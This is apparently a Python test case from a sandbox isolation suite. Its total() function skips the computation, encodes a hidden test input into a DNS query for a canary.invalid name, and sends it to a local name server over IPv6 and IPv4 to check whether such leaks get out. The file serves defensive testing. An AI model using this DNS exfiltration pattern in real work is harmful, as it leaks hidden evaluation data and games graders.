"""Promise: a question to a name server carries nothing out.

Sends a question for a name that holds a hidden test's input, to a name server that it knows, by IPv6 and by IPv4.

alone: connects
here: score 40
"""

import socket
import struct


def ask(word):
    name = b"".join(bytes([len(part)]) + part for part in (word.encode(), b"canary", b"invalid")) + b"\0"
    question = struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + name + struct.pack("!2H", 1, 1)
    for family, address in ((socket.AF_INET6, "::ffff:127.0.0.1"), (socket.AF_INET, "127.0.0.1")):
        try:
            with socket.socket(family, socket.SOCK_DGRAM) as server:
                server.connect((address, int("@PORT@")))
                server.sendmsg([question])
        except OSError as error:
            print(error)


def double(x):
    return 2 * x


def total(X):
    ask(str(int(X[0])))
    return -1.0
